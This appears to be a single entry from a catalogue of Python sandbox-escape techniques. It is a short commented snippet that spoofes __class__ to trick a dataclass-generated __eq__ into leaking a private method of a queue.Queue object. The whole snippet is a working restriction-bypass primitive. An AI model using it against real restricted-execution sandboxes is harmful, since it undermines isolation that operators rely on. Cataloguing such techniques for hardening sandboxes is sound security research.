# technique: the __eq__ that dataclass made is called with a library's object; another object says that it is one too
# source: reading pyrestrict and GraalPy's library
# goal: read a private attribute of a library's object
# impact: introspect
import dataclasses, queue
@dataclasses.dataclass
class Q:
    _put: object
class Capture:
    def __eq__(self, other):
        escaped(other)
        return True
    __hash__ = None
q = queue.Queue()
O = type('O', (), {'__class__': property(lambda s: type(q)), '_put': Capture()})
Q.__eq__(q, O())
